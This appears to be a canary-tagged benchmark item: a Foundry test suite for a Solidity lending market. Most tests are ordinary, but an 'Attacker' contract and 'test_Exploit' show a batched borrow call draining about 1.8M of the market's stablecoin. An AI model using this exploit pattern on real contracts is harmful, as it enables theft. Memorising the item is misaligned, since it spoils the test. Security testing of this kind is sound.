// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

// assay-canary-46fe348c-0b31-4745-80ac-6414ee4075bc

import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";
import "./CreditMarket.sol";
import {IAggregator, PriceFeed} from "./context/PriceFeed.sol";

interface Vm {
    function prank(address w) external;
    function startPrank(address w) external;
    function stopPrank() external;
    function warp(uint256 t) external;
    function expectRevert() external;
    function expectRevert(bytes4 e) external;
    function expectRevert(bytes calldata e) external;
}

contract Coin is ERC20 {
    address private immutable o = msg.sender;

    constructor(string memory s) ERC20(s, s) {}

    function mint(address w, uint256 n) external {
        require(msg.sender == o, "owner only");
        _mint(w, n);
    }
}

contract Aggregator is IAggregator {
    address private immutable o = msg.sender;
    uint8 public constant decimals = 8;
    int256 private p;
    uint256 private t;

    function set(int256 p_, uint256 t_) external {
        require(msg.sender == o, "owner only");
        (p, t) = (p_, t_);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, p, t, t, 1);
    }
}

contract Attacker {
    function run(CreditMarket m, uint256 n) external {
        CreditMarket.Act[] memory q = new CreditMarket.Act[](2);
        q[0] = CreditMarket.Act(3, address(this), n);
        q[1] = CreditMarket.Act(0, address(0), 0);
        m.run(q);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant T = 1_780_000_000;
    uint256 private constant SAME = type(uint256).max;
    address private constant ANA = address(0xA11A);
    address private constant BO = address(0xB0B0);
    address private constant CY = address(0xC1C1);
    address private constant SINK = address(0x51AC);

    Coin private coll;
    Coin private dollar;
    Aggregator private agg;
    PriceFeed private feed;
    CreditMarket private m;
    Attacker private mal;

    function setUp() public {
        vm.warp(T);
        coll = new Coin("COL");
        dollar = new Coin("USD");
        agg = new Aggregator();
        agg.set(2_000e8, T);
        feed = new PriceFeed(agg, 1 days);
        m = new CreditMarket(coll, dollar, feed, 7_500, 800, SINK);
        m.setCap(3_000_000e18);
        m.setCost(50, 500);
        m.setGuardian(CY);
        dollar.mint(address(this), 2_000_000e18);
        dollar.approve(address(m), SAME);
        m.fund(2_000_000e18);
        coll.mint(ANA, 120e18);
        coll.mint(BO, 10e18);
        dollar.mint(ANA, 50_000e18);
        dollar.mint(BO, 200_000e18);
        open(ANA);
        open(BO);
        one(ANA, 1, ANA, 100e18);
        one(ANA, 3, ANA, 100_000e18);
        mal = new Attacker();
    }

    function open(address w) private {
        vm.startPrank(w);
        coll.approve(address(m), SAME);
        dollar.approve(address(m), SAME);
        vm.stopPrank();
    }

    function act(uint8 k, address w, uint256 n) private pure returns (CreditMarket.Act[] memory q) {
        q = new CreditMarket.Act[](1);
        q[0] = CreditMarket.Act(k, w, n);
    }

    function one(address by, uint8 k, address w, uint256 n) private returns (uint256) {
        vm.prank(by);
        return m.run(act(k, w, n));
    }

    function refused(address by, uint8 k, address w, uint256 n, bytes4 e) private {
        vm.prank(by);
        vm.expectRevert(e);
        m.run(act(k, w, n));
    }

    function test_Regular() public {
        require(m.debtOf(ANA) == 100_500e18 && m.totalDebt() == 100_500e18 && dollar.balanceOf(SINK) == 500e18, "start");
        require(m.ltvOf(ANA) == 5_025 && m.ltvOf(BO) == 0 && m.healthy(ANA) && m.healthy(BO), "views");

        CreditMarket.Act[] memory q = new CreditMarket.Act[](6);
        q[0] = CreditMarket.Act(20, address(0), 1_990e18);
        q[1] = CreditMarket.Act(9, address(0), 7);
        q[2] = CreditMarket.Act(1, BO, 10e18);
        q[3] = CreditMarket.Act(21, address(0), 0);
        q[4] = CreditMarket.Act(3, BO, SAME);
        q[5] = CreditMarket.Act(4, BO, 1_000e18);
        vm.prank(BO);
        require(m.run(q) == 1_000e18, "last");
        require(m.pledged(BO) == 10e18 && coll.balanceOf(BO) == 0, "added");
        require(m.debtOf(BO) > 13_999e18 && m.debtOf(BO) <= 14_000e18 && m.room(BO) < 996e18, "all the room");

        vm.warp(T + 365 days);
        agg.set(2_100e8, T + 365 days);
        require(m.index() == 1.05e18, "interest");
        uint256 r = m.room(ANA);
        one(ANA, 3, ANA, r);
        require(m.healthy(ANA) && m.room(ANA) == 0 && m.ltvOf(ANA) <= 7_500, "room with interest");
        one(ANA, 1, ANA, 20e18);
        one(ANA, 5, BO, 1e18);
        one(ANA, 2, CY, 1e18);
        require(m.pledged(ANA) == 118e18 && m.pledged(BO) == 11e18 && coll.balanceOf(CY) == 1e18, "moved and taken");

        q = new CreditMarket.Act[](2);
        q[0] = CreditMarket.Act(22, BO, 0);
        q[1] = CreditMarket.Act(4, BO, SAME);
        vm.prank(BO);
        m.run(q);
        require(m.debtOf(BO) == 0 && m.loans(BO) == 0 && m.room(BO) > 17_000e18, "repaid");
        require(one(BO, 2, BO, 11e18) == 11e18 && m.pledged(BO) == 0, "closed");
        fall();
        admin();
    }

    function fall() private {
        agg.set(1_600e8, T + 365 days);
        require(!m.healthy(ANA) && m.ltvOf(ANA) > 7_500, "a fall");
        one(ANA, 4, ANA, 10_000e18);
        require(!m.healthy(ANA), "repaid in part");
        vm.prank(BO);
        (uint256 a, uint256 c) = m.liquidate(ANA, 10_000e18, 6.75e18);
        require(a == 10_000e18 && c == 6.75e18, "liquidated");
        agg.set(500e8, T + 365 days);
        uint256 had = m.pledged(ANA);
        vm.prank(BO);
        (a, c) = m.liquidate(ANA, SAME - 1, 0);
        require(c == had && m.pledged(ANA) == 0 && m.debtOf(ANA) == 0 && m.scaled() == 0, "the rest");
    }

    function admin() private {
        vm.prank(CY);
        m.pause();
        m.unpause();
        m.pause();
        m.setCost(200, 5_000);
        m.setSink(BO);
        m.setGuardian(BO);
        m.recall(1_000_000e18);
        Coin other = new Coin("OTH");
        other.mint(address(m), 5);
        m.sweep(other);
        require(other.balanceOf(address(this)) == 5 && dollar.balanceOf(address(this)) == 1_000_000e18, "taken");
        m.transferOwnership(BO);
        vm.startPrank(BO);
        m.acceptOwnership();
        m.renounceOwnership();
        vm.stopPrank();
        require(m.owner() == address(0) && m.sink() == BO && m.guardian() == BO && m.fee() == 200, "left");
    }

    function test_RefusesStrangers() public {
        bytes memory e = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, CY);
        vm.startPrank(CY);
        vm.expectRevert(e);
        m.setCost(0, 0);
        vm.expectRevert(e);
        m.setCap(0);
        vm.expectRevert(e);
        m.setSink(CY);
        vm.expectRevert(e);
        m.setGuardian(CY);
        vm.expectRevert(e);
        m.recall(1);
        vm.expectRevert(e);
        m.sweep(coll);
        vm.expectRevert(e);
        m.transferOwnership(CY);
        vm.expectRevert(e);
        m.renounceOwnership();
        vm.expectRevert(e);
        m.acceptOwnership();
        m.pause();
        vm.expectRevert(e);
        m.unpause();
        vm.stopPrank();
        vm.prank(BO);
        vm.expectRevert(Terms.Auth.selector);
        m.pause();
    }

    function test_RefusesTerms() public {
        vm.expectRevert(Terms.BadTerms.selector);
        new CreditMarket(coll, coll, feed, 7_500, 800, SINK);
        vm.expectRevert(Terms.BadTerms.selector);
        new CreditMarket(coll, dollar, feed, 1_999, 800, SINK);
        vm.expectRevert(Terms.BadTerms.selector);
        new CreditMarket(coll, dollar, feed, 9_000, 800, SINK);
        vm.expectRevert(Terms.Zero.selector);
        new CreditMarket(coll, dollar, feed, 7_500, 800, address(0));
        vm.expectRevert(Terms.BadTerms.selector);
        m.setCost(201, 0);
        vm.expectRevert(Terms.BadTerms.selector);
        m.setCost(0, 5_001);
        vm.expectRevert(Terms.Held.selector);
        m.sweep(coll);
        vm.expectRevert(Terms.Held.selector);
        m.sweep(dollar);
    }

    function test_RefusesPrices() public {
        agg.set(0, T);
        refused(ANA, 2, ANA, 1, PriceFeed.BadPrice.selector);
        agg.set(2_000e8, T - 1 days - 1);
        refused(ANA, 2, ANA, 1, PriceFeed.OldPrice.selector);
        agg.set(2_000e8, T);
        refused(BO, 20, BO, 2_000e18 + 1, CreditMarket.LowPrice.selector);
    }

    function test_RefusesLists() public {
        refused(ANA, 3, ANA, 60_000e18, CreditMarket.Unhealthy.selector);
        refused(ANA, 2, ANA, 40e18, CreditMarket.Unhealthy.selector);
        refused(ANA, 5, BO, 40e18, CreditMarket.Unhealthy.selector);
        refused(BO, 3, BO, 1_000e18, CreditMarket.Unhealthy.selector);
        refused(ANA, 1, address(0), 1e18, Terms.Zero.selector);
        refused(ANA, 5, address(0), 1e18, Terms.Zero.selector);
        vm.prank(ANA);
        vm.expectRevert();
        m.run(act(2, ANA, 100e18 + 1));
        vm.prank(BO);
        vm.expectRevert();
        m.run(act(5, BO, 1));
    }

    function test_RefusesLoans() public {
        one(BO, 1, BO, 10e18);
        refused(BO, 3, BO, 497e18, CreditMarket.Small.selector);
        m.setCap(101_000e18);
        refused(BO, 3, BO, 1_000e18, CreditMarket.OverCap.selector);
        m.pause();
        refused(BO, 3, BO, 1_000e18, Pausable.EnforcedPause.selector);
    }

    function test_RefusesLiquidations() public {
        vm.prank(BO);
        vm.expectRevert(CreditMarket.Healthy.selector);
        m.liquidate(ANA, 1e18, 0);
        agg.set(1_200e8, T);
        vm.prank(BO);
        vm.expectRevert(CreditMarket.Short.selector);
        m.liquidate(ANA, 10_000e18, 9e18 + 1);
    }

    function exploit() public {
        mal.run(m, 1_850_000e18);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mal)) >= 1_800_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(m);
    }

    function attacker() public view returns (address) {
        return address(mal);
    }

    function token() public view returns (address) {
        return address(dollar);
    }
}
